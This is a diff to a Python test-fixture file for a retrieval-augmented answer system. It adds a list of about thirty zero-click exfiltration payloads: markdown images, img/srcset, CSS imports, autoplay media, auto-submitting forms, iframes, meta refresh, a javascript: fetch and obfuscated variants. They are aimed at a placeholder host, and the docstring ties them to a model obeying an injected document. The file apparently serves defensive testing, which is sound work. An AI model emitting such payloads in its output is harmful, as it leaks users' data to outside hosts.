@@ -5,11 +5,13 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
 from datetime import date
 from typing import Final
 
 from index.document import Document, Passage, Span
-from rag.answer import Answer, Citation, Disagreement, Dropped, Evidence, Sentence
+from rag.answer import Answer, Citation, Disagreement, Dropped, Evidence, Group, Sentence
+from rag.check import Checked
 from tests.newsroom import TRACE
 
 MARKUP: Final = (
@@ -86,6 +88,45 @@ MARKUP: Final = (
 )
 
 
+EXFILTRATING: Final = (
+    "![x]({there}/1.png?q=secret)",
+    "![x][1] and [1]: {there}/2.png",
+    "<img src={there}/3.png>",
+    "<img srcset='{there}/4.png 1x'>",
+    "<p style='background: url({there}/5.png)'>x</p>",
+    "<style>@import '{there}/6.css';</style>",
+    "<video src={there}/7.mp4 poster={there}/7.png autoplay></video>",
+    "<audio src={there}/8.mp3 autoplay></audio>",
+    "<svg><image href={there}/9.svg /></svg>",
+    "<svg><use href='{there}/10.svg#x' /></svg>",
+    "<link rel=stylesheet href={there}/11.css>",
+    "<link rel=prefetch href={there}/12>",
+    "<link rel=preconnect href={there}>",
+    "<form action={there}/14><input autofocus onfocus=this.form.submit()></form>",
+    "<iframe src={there}/15></iframe>",
+    "<iframe srcdoc='<img src={there}/16>'></iframe>",
+    "<meta http-equiv=refresh content='0;url={there}/17'>",
+    "<base href={there}/18/>",
+    "<object data={there}/19></object>",
+    "<embed src={there}/20>",
+    "<iframe src='data:text/html,<img src={there}/21>'></iframe>",
+    "<a href='javascript:fetch(`{there}/22`)' ping={there}/22>click</a>",
+    "&#60;img src={there}/23&#62; &lt;img src={there}/23&gt;",
+    "\\u003cimg src={there}/24\\u003e",
+    "<im\u200bg src={there}/25> ＜img src={there}/25＞",
+    "<{there}/26> [click]({there}/26)",
+    "<body background={there}/27><table background={there}/27>",
+    "<template><img src={there}/28></template><script>fetch('{there}/28')</script>",
+    "<input type=image src={there}/29> <picture><source srcset={there}/29><img></picture>",
+)
+"""Forms in which a model that obeys a document would carry words away without a click."""
+
+
+def exfiltrating(there: str) -> tuple[str, ...]:
+    """Every one of these forms, aimed at `there`."""
+    return tuple(each.format(there=there) for each in EXFILTRATING)
+
+
 def payloads(there: str = "http://127.0.0.1:9") -> tuple[str, ...]:
     """Every hostile text, aimed at `there`."""
     return tuple(each.format(there=there) for each in MARKUP)
@@ -126,5 +167,16 @@ def hostile_answer(text: str) -> Answer:
             Disagreement("superseded", (1, 2), (text, text)),
         ),
         dropped=(Dropped(text, text),),
+        notice=text,
         trace=TRACE,
     )
+
+
+def hostile_sides(text: str) -> Answer:
+    """The same, laid out as a comparison whose sides are named by it."""
+    return replace(hostile_answer(text), form="comparison", groups=(Group(text, (1,)), Group(f"{text}.", (2,))))
+
+
+def hostile_check(text: str) -> Checked:
+    """A statement that says it, with reasons and quotes that do."""
+    return Checked(text, Span(0, len(text)), "contradicted", 0.1, (text,), hostile_answer(text).evidence)
